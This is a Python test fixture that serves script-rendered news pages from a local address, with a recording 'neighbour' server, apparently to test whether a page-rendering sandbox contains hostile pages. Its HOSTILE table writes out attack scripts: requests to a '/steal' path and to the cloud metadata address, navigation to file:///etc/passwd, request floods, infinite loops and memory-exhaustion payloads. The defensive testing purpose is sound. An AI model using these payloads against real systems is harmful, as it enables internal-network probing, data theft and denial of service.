"""Sites whose text comes by script, honest and hostile, on an address of this machine that no other
test uses.
"""

import json
import socket
import threading
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

SITE, NEIGHBOUR = "127.0.2.1", "127.0.0.1"
NETWORK = "127.0.2.0/24"
SENTENCE = (
    "The council met in the old town hall, and the vote on the harbour number {0} was close. "
)
_APP = """
const number = location.pathname.split("/").pop();
const tell = (title, text) => {
  document.title = title;
  const article = document.createElement("article");
  article.innerHTML = `<h1>${title}</h1><time datetime="2026-03-01T10:00:00Z">2026-03-01 10:00</time>` +
    text.map((each) => `<p>${each}</p>`).join("");
  document.getElementById("app").append(article);
};
document.cookie = "reader=" + number + ";path=/";
fetch("/api/article/" + number, {headers: {"X-Reader": "yes"}}).then((answer) => answer.json())
  .then((found) => tell(found.title, found.text));
"""
_AFTER_COOKIE = """
if (document.cookie.includes("been=here")) {
  document.title = "Told to those who come back";
  document.getElementById("app").innerHTML = "<article><h1>Told to those who come back</h1>" +
    "<time datetime='2026-03-01T10:00:00Z'>2026-03-01 10:00</time>" + "<p>%s</p>".repeat(4) + "</article>";
}
document.cookie = "been=here;path=/";
"""
_LIST = """
fetch("/api/list").then((answer) => answer.json()).then((found) => {
  for (const each of found) {
    const link = document.createElement("a");
    link.href = each.url; link.textContent = each.title;
    document.getElementById("app").append(link, document.createElement("br"));
  }
});
"""
_PAGE = (
    "<!DOCTYPE html><html><head><title>Harbour news</title><link rel=stylesheet href=/style.css>"
    "<link rel=preconnect href={neighbour}></head><body><noscript>Please enable JavaScript to "
    "read this page.</noscript><div id=app></div><img src=/picture.png>{more}</body></html>"
)
_OFFLINE = """
const stop = (error) => {};
for (const url of ["%(neighbour)s/steal", "http://169.254.169.254/latest/meta-data/", "http://[::1]:%(port)d/six",
                   "%(site)s/to-neighbour"]) {
  fetch(url).then((it) => it.text()).then((it) => document.body.append(it)).catch(stop);
  fetch(url, {method: "POST", mode: "no-cors", body: "x"}).catch(stop);
  new Image().src = url;
  navigator.sendBeacon(url, "x");
  const frame = document.createElement("iframe"); frame.src = url; document.body.append(frame);
  const script = document.createElement("script"); script.src = url; document.head.append(script);
}
new WebSocket("ws://%(host)s/socket").onerror = stop;
new EventSource("%(neighbour)s/events").onerror = stop;
const code = `fetch("%(neighbour)s/worker").catch(() => 0); new WebSocket("ws://%(host)s/of-worker")`;
new Worker(URL.createObjectURL(new Blob([code])));
navigator.serviceWorker && navigator.serviceWorker.register("/worker.js").catch(stop);
const relay = {urls: "turn:%(host)s?transport=tcp", username: "a", credential: "b"};
const peer = new RTCPeerConnection({iceServers: [relay]});
peer.createDataChannel("x"); peer.createOffer().then((it) => peer.setLocalDescription(it));
"""
HOSTILE = {
    "neighbour": _OFFLINE,
    "address": "location.href = '%(neighbour)s/page'",
    "file": "location.href = 'file:///etc/passwd'",
    "data": "location.href = 'data:text/html,' + 'stolen '.repeat(900)",
    "requests": "for (let n = 0; n < 1000; n++) fetch('/api/flood/' + n)",
    "flood": "for (let n = 0; n < 5000; n++) fetch('/api/flood/' + n)",
    "forever": "while (true) {}",
    "timers": "setInterval(() => fetch('/api/flood/' + Math.random()), 50)",
    "memory": "const held = []; setInterval(() => held.push(new Uint8Array(64 << 20).fill(1)), 1)",
    "heap": "const held = []; while (true) held.push('x'.repeat(1000) + held.length)",
    "elements": "setInterval(() => document.body.append(document.createElement('p').cloneNode()), 0);"
    "for (let n = 0; n < 20; n++) document.body.innerHTML += '<p>y'.repeat(200000)",
    "alerts": "while (true) alert('hello')",
    "windows": "for (let n = 0; n < 50; n++) window.open('/article/1')",
    "download": "location.href = '/file.zip'; const it = document.createElement('a'); it.href = "
    "'/file.zip';"
    "it.download = 'x'; document.body.append(it); it.click()",
}


class ScriptSite(BaseHTTPRequestHandler):
    """Serves pages without a text at ``/article/N``, and the data that their script fetches.

    ``asked`` counts the requests for each path. ``failures`` says how often a path is answered with
    HTTP 503 before it is served.
    """

    asked: ClassVar[Counter[str]] = Counter()
    cookies: ClassVar[dict[str, str]] = {}
    slow_seconds: ClassVar[float] = 0.0
    failures: ClassVar[Counter[str]] = Counter()
    values: ClassVar[dict[str, object]] = {}

    def do_GET(self) -> None:  # noqa: C901 one branch for each page
        path = self.path.partition("?")[0]
        self.asked[path] += 1
        parts = path.strip("/").split("/")
        if self.asked[path] <= self.failures[path]:
            self.send_error(503)
            return
        if parts[0] == "article":
            self._send(
                "text/html",
                _PAGE.format(
                    neighbour=self.values["neighbour"], more="<script src=/app.js></script>"
                ),
            )
        elif path == "/app.js":
            self._send("text/javascript", _APP)
        elif path == "/list.js":
            self._send("text/javascript", _LIST)
        elif path.startswith("/api/article/"):
            self.cookies[parts[-1]] = self.headers.get("Cookie", "")
            time.sleep(self.slow_seconds)
            text = [SENTENCE.format(parts[-1]) * 3 for _ in range(4)]
            self._send(
                "application/json",
                json.dumps({"title": f"The vote on the harbour number {parts[-1]}", "text": text}),
            )
        elif path == "/api/list":
            rows = [
                {"url": f"/article/{n}", "title": f"The vote on the harbour number {n}"}
                for n in range(1, 9)
            ]
            self._send("application/json", json.dumps(rows))
        elif path == "/script-list":
            self._send(
                "text/html",
                _PAGE.format(
                    neighbour=self.values["neighbour"], more="<script src=/list.js></script>"
                ),
            )
        elif path == "/list":
            links = "".join(
                f'<li><a href="/article/{n}">The vote on the harbour number {n}</a></li>'
                for n in range(1, 9)
            )
            self._send("text/html", f"<html><title>News</title><ul>{links}</ul></html>")
        elif parts[0] == "hostile":
            script = (
                HOSTILE[parts[1]] % self.values if "%(" in HOSTILE[parts[1]] else HOSTILE[parts[1]]
            )
            self._send(
                "text/html",
                _PAGE.format(neighbour=self.values["neighbour"], more=f"<script>{script}</script>"),
            )
        elif path == "/to-neighbour":
            self.send_response(302)
            self.send_header("Location", f"{self.values['neighbour']}/redirected")
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif path.startswith("/api/flood/"):
            self._send("application/json", "{}")
        elif path == "/after-cookie":
            script = _AFTER_COOKIE % (SENTENCE.format("of cookies") * 3)
            self._send(
                "text/html",
                _PAGE.format(neighbour=self.values["neighbour"], more=f"<script>{script}</script>"),
            )
        elif path == "/file.zip":
            self._send("application/zip", "PK" * 1000)
        else:
            self.send_error(404)

    do_POST = do_GET  # noqa: N815 the library's name

    def _send(self, kind: str, text: str) -> None:
        body = text.encode()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Set-Cookie", "session=of-server; Path=/")
        self.end_headers()
        with suppress(OSError):
            self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        """Say nothing."""


class Neighbour:
    """A server that no page may reach; it records every connection."""

    def __init__(self) -> None:
        self._socket = socket.create_server((NEIGHBOUR, 0))
        self.port = self._socket.getsockname()[1]
        self.connections: list[bytes] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                connection.settimeout(1)
                with suppress(OSError), connection:
                    self.connections.append(connection.recv(200))

    def close(self) -> None:
        self._socket.close()


@contextmanager
def script_web() -> Iterator[tuple[str, Neighbour]]:
    """Start both; yield the address of the site, and its neighbour."""
    server = ThreadingHTTPServer((SITE, 0), ScriptSite)
    server.daemon_threads = True
    neighbour = Neighbour()
    address = f"http://{SITE}:{server.server_port}"
    host = f"{NEIGHBOUR}:{neighbour.port}"
    ScriptSite.asked, ScriptSite.failures, ScriptSite.cookies, ScriptSite.slow_seconds = (
        Counter(),
        Counter(),
        {},
        0.0,
    )
    ScriptSite.values = {
        "neighbour": f"http://{host}",
        "host": host,
        "port": neighbour.port,
        "site": address,
    }
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield address, neighbour
    finally:
        server.shutdown()
        server.server_close()
        neighbour.close()
